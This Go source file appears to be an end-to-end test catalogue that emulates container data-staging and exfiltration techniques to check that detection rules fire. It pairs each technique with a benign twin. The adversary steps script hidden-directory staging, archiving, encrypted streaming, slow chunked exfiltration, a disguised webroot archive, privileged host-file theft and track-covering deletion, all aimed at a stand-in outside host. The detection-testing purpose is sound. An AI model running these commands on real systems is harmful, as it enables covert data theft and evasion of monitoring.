package emulate

import (
	"fmt"
	"math"
	"strconv"
	"time"

	"github.com/falco-datastaging/datastaging/e2e/internal/ruleset"
)

// Rules that must fire.
const (
	localStaging    = "Local Data Staging in Container"
	archive         = "Archive of Collected Data in Container"
	remoteStaging   = "Remote Data Staging in Container"
	egress          = "Egress of Staged Data from Container"
	slowEgress      = "Slow Egress of Staged Data from Container"
	handOff         = "Hand-off of Staged Data Between Containers"
	sensitive       = "Sensitive Container"
	hostStaged      = "Host Data Staged in Sensitive Container"
	sensitiveEgress = "Egress of Staged Data from Sensitive Container"
	sensitivePod    = "Sensitive Pod Deployed"
	entered         = "Container Entered Through the API Server"
)

// Pieces of slow-pieces, and what the rules on egress need in the plugin's default window.
const (
	numPieces  = 40
	pieceBytes = 65536
	egressFrom = 1 << 20
	window     = 10 * time.Minute
)

// PiecesTime is how long slow-pieces takes, without what else it does.
func PiecesTime(interval time.Duration) time.Duration { return numPieces * interval }

// slowly tells whether pieces leave too slowly for the rule on egress.
func slowly(interval time.Duration) bool {
	return interval > 0 && math.Ceil(float64(window)/float64(interval))*pieceBytes < egressFrom
}

// Catalogue returns all techniques.
func Catalogue(opts Options) []Technique {
	pause := strconv.FormatFloat(opts.Interval.Seconds(), 'f', -1, 64)
	slowRule, slowPriority := egress, ruleset.PriorityWarning
	if slowly(opts.Interval) {
		slowRule, slowPriority = slowEgress, ruleset.PriorityNotice
	}
	toOutside := "send " + first + " " + outside + " " + sinkPort
	toVault := "send " + first + " " + vault + " " + sinkPort
	return []Technique{
		{
			Name: "local-staging", Attack: []string{"T1074.001", "T1560", "T1041"},
			Does: "copies files into a hidden directory, packs them and sends the archive out",
			Adversary: Scene{
				Name: "local-staging", Containers: []Container{{Name: "web"}},
				Steps: []Step{
					{"web", "make up data", "make_data /srv/customers 12"},
					{"web", "gather it in a hidden directory", "mkdir -p /tmp/.x/in; cp /srv/customers/* /tmp/.x/in/"},
					{"web", "pack it", "tar czf /tmp/.x/all.tgz -C /tmp/.x in"},
					{"web", "send the archive out", toOutside + " </tmp/.x/all.tgz"},
					{"web", "cover the tracks", "rm -rf /tmp/.x"},
				},
				Expect: []Expected{
					{Rule: localStaging, Priority: ruleset.PriorityNotice, Container: "web"},
					{Rule: archive, Priority: ruleset.PriorityNotice, Container: "web"},
					{Rule: egress, Priority: ruleset.PriorityWarning, Container: "web"},
				},
			},
			Twin: Scene{
				Name: "build", Does: "a build in /tmp whose package goes to a registry in the cluster", Containers: []Container{{Name: "builder"}},
				Steps: []Step{
					{"builder", "make up sources", "make_data /srv/sources 12"},
					{"builder", "build", "mkdir -p /tmp/build; cp -r /srv/sources /tmp/build/; tar czf /tmp/build/package.tgz -C /tmp/build sources"},
					{"builder", "push the package", toVault + " </tmp/build/package.tgz"},
				},
			},
		},
		{
			Name: "remote-staging", Attack: []string{"T1074.002", "T1560", "T1041"},
			Does: "gathers the data of three containers in a fourth, packs it and sends it out",
			Adversary: Scene{
				Name: "remote-staging", Containers: []Container{{Name: "api"}, {Name: "db"}, {Name: "cache"}, {Name: "stager"}},
				Steps: append(fanIn("stager", "/var/tmp/.cache"),
					Step{"stager", "pack it", "tar czf /var/tmp/.cache/all.tgz -C /var/tmp/.cache in"},
					Step{"stager", "send the archive out", toOutside + " </var/tmp/.cache/all.tgz"},
				),
				Expect: []Expected{
					{Rule: remoteStaging, Priority: ruleset.PriorityNotice, Container: "stager"},
					{Rule: localStaging, Priority: ruleset.PriorityNotice, Container: "stager"},
					{Rule: archive, Priority: ruleset.PriorityNotice, Container: "stager"},
					{Rule: egress, Priority: ruleset.PriorityWarning, Container: "stager"},
				},
			},
			Twin: Scene{
				Name: "log-hub", Does: "a hub that takes in the logs of three containers and forwards them in the cluster",
				Containers: []Container{{Name: "api"}, {Name: "db"}, {Name: "cache"}, {Name: "hub"}},
				Steps: append(fanIn("hub", "/srv/logs"),
					Step{"hub", "forward them", "tar c -C /srv/logs in | gzip | " + toVault}),
			},
		},
		{
			Name: "shared-volume", Attack: []string{"T1074.002", "T1560", "T1041"},
			Does: "packs data in one container, and sends it from another one that shares a volume with it",
			Adversary: Scene{
				Name: "shared-volume", Containers: []Container{{Name: "packer", Volume: true}, {Name: "courier", Volume: true}},
				Steps: []Step{
					{"packer", "make up data", "make_data /srv/customers 12"},
					{"packer", "pack it into the volume", "tar czf " + volumeDir + "/o.bin -C /srv customers"},
					{"courier", "send the archive out", toOutside + " <" + volumeDir + "/o.bin"},
				},
				Expect: []Expected{
					{Rule: handOff, Priority: ruleset.PriorityNotice, Container: "courier"},
					{Rule: egress, Priority: ruleset.PriorityWarning, Container: "courier"},
				},
			},
			Twin: Scene{
				Name: "log-shipper", Does: "a shipper that reads the application's logs in a volume and sends them to a store in the cluster",
				Containers: []Container{{Name: "app", Volume: true}, {Name: "shipper", Volume: true}},
				Steps: []Step{
					{"app", "write logs", "make_data " + volumeDir + "/logs 8"},
					{"shipper", "ship them", "for f in " + volumeDir + "/logs/*; do " + toVault + ` <"$f"; done`},
				},
			},
		},
		{
			Name: "stream", Attack: []string{"T1048"},
			Does: "pipes files through a cipher into a socket, without a file in between",
			Adversary: Scene{
				Name: "stream", Containers: []Container{{Name: "api"}},
				Steps: []Step{
					{"api", "make up data", "make_data /srv/customers 12"},
					{"api", "stream it out", "tar c -C /srv customers | openssl enc -aes-256-ctr -pass pass:emulated -pbkdf2 | " + toOutside},
				},
				Expect: []Expected{{Rule: egress, Priority: ruleset.PriorityWarning, Container: "api"}},
			},
			Twin: Scene{
				Name: "backup", Does: "a backup that is packed and sent to a vault in the cluster", Containers: []Container{{Name: "backup"}},
				Steps: []Step{
					{"backup", "make up data", "make_data /srv/database 12"},
					{"backup", "send it to the vault", "tar c -C /srv database | gzip | " + toVault},
				},
			},
		},
		{
			Name: "webroot", Attack: []string{"T1074.001", "T1560", "T1567"},
			Does: "drops an archive where a web server serves it, to be fetched from outside",
			Adversary: Scene{
				Name: "webroot", Containers: []Container{{Name: "shop"}},
				Steps: []Step{
					{"shop", "make up data", "make_data /srv/customers 12"},
					{"shop", "drop an archive of it", "mkdir -p /srv/www; tar czf /srv/www/logo.png -C /srv customers"},
					{"shop", "serve it", background("serve " + first + " " + workPort + " /srv/www/logo.png")},
					{sinkName, "fetch it from outside", "fetch " + outside + " " + first + " " + workPort + " /logo.png"},
				},
				Expect: []Expected{{Rule: egress, Priority: ruleset.PriorityWarning, Container: "shop"}},
			},
			Twin: Scene{
				Name: "public-files", Does: "a web server that answers the public with its own files", Containers: []Container{{Name: "site"}},
				Steps: []Step{
					{"site", "make up a site", "make_data /srv/www 8"},
					{"site", "serve it", background("serve " + first + " " + workPort + " /srv/www/part-3.csv")},
					{sinkName, "fetch a file from outside", "fetch " + outside + " " + first + " " + workPort + " /part-3.csv"},
				},
			},
		},
		{
			Name: "slow-pieces", Attack: []string{"T1030", "T1560", "T1041"},
			Does: fmt.Sprintf("packs files and sends the archive in %d pieces of 64 KiB, one every %s", numPieces, opts.Interval),
			Adversary: Scene{
				Name: "slow-pieces", Containers: []Container{{Name: "job"}},
				Steps: []Step{
					{"job", "make up data", "make_data /srv/customers 4"},
					{"job", "pack it", "mkdir -p /var/tmp/.p; tar czf /var/tmp/.p/all -C /srv customers"},
					{"job", "send it in pieces", fmt.Sprintf(`n=0
while [ $n -lt %d ]; do
  dd if=/var/tmp/.p/all bs=%d skip=$n count=1 2>/dev/null | %s; n=$((n+1)); sleep %s
done`, numPieces, pieceBytes, toOutside, pause)},
				},
				Expect: []Expected{
					{Rule: archive, Priority: ruleset.PriorityNotice, Container: "job"},
					{Rule: slowRule, Priority: slowPriority, Container: "job"},
				},
			},
			Twin: Scene{
				Name: "metrics", Does: "an agent that sends its figures outside every now and then", Containers: []Container{{Name: "agent"}},
				Steps: []Step{
					{"agent", "send figures", "n=0; while [ $n -lt 20 ]; do cat /proc/stat /proc/meminfo | " + toOutside + "; n=$((n+1)); sleep 0.5; done"},
				},
			},
		},
		{
			Name: "host-path", Attack: []string{"T1611", "T1074.001", "T1560", "T1041"}, Privileged: true,
			Does: "a privileged container packs files of the node beside them and sends them out",
			Adversary: Scene{
				Name: "host-path", Containers: []Container{{Name: "debug", Privileged: true}},
				Steps: []Step{
					{"debug", "make up data of a node", "make_data " + hostDir + "/etc 12"},
					{"debug", "pack it in a hidden directory",
						"cd " + hostDir + "; mkdir -p var/tmp/.k; tar czf var/tmp/.k/h.tgz etc"},
					{"debug", "send the archive out", toOutside + " <" + hostDir + "/var/tmp/.k/h.tgz"},
				},
				Expect: []Expected{
					{Rule: sensitive, Priority: ruleset.PriorityNotice},
					{Rule: archive, Priority: ruleset.PriorityNotice, Container: "debug"},
					{Rule: localStaging, Priority: ruleset.PriorityNotice, Container: "debug"},
					{Rule: hostStaged, Priority: ruleset.PriorityWarning, Container: "debug"},
					{Rule: sensitiveEgress, Priority: ruleset.PriorityCritical, Container: "debug"},
				},
			},
			Twin: Scene{
				Name: "node-agent", Does: "a node agent, as privileged, that sends the node's logs to a store in the cluster",
				Containers: []Container{{Name: "agent", Privileged: true}},
				Steps: []Step{
					{"agent", "make up logs of a node", "make_data " + hostDir + "/var/log 8"},
					{"agent", "ship them", "for f in " + hostDir + "/var/log/*; do " + toVault + ` <"$f"; done`},
				},
				// What it can do is told once; that it does nothing with it is what the other rules do not tell.
				Expect: []Expected{{Rule: sensitive, Priority: ruleset.PriorityNotice}},
			},
		},
	}
}

// fanIn are the steps in which three containers send their data to a fourth, which keeps it in dir/in.
func fanIn(to, dir string) []Step {
	steps := []Step{{to, "wait for data", background("receive " + first + " " + workPort + " 3 " + dir + "/in")}}
	for i, from := range []struct{ name, addr string }{{"api", sender1}, {"db", sender2}, {"cache", sender3}} {
		steps = append(steps, Step{
			from.name, "send data",
			fmt.Sprintf("make_data /srv/data-%d 4; tar c -C /srv data-%d | send %s %s %s", i, i, from.addr, first, workPort),
		})
	}
	return steps
}
